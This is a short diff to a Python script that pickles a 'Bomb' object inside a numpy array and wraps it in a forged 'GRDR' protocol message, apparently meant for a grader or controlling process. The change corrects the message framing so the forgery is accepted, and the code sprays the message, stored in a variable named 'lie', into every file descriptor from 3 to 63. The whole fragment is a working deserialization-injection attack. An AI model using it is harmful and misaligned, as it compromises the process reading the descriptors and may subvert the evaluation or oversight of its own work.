@@ -14,10 +14,11 @@ class Bomb:
 buffer = io.BytesIO()
 np.save(buffer, np.array([Bomb()], dtype=object), allow_pickle=True)
 header = json.dumps({"d": {"number": {"a": 1}}}).encode()
-parts = b"".join(struct.pack("!Q", len(part)) + part for part in (header, buffer.getvalue()))
+array = buffer.getvalue()
+lie = struct.pack("!4sIQQ", b"GRDR", 2, len(header), len(array)) + header + array
 for descriptor in range(3, 64):
     try:
-        os.write(descriptor, struct.pack("!4sI", b"GRDR", 2) + parts)
+        os.write(descriptor, lie)
     except OSError:
         continue
 
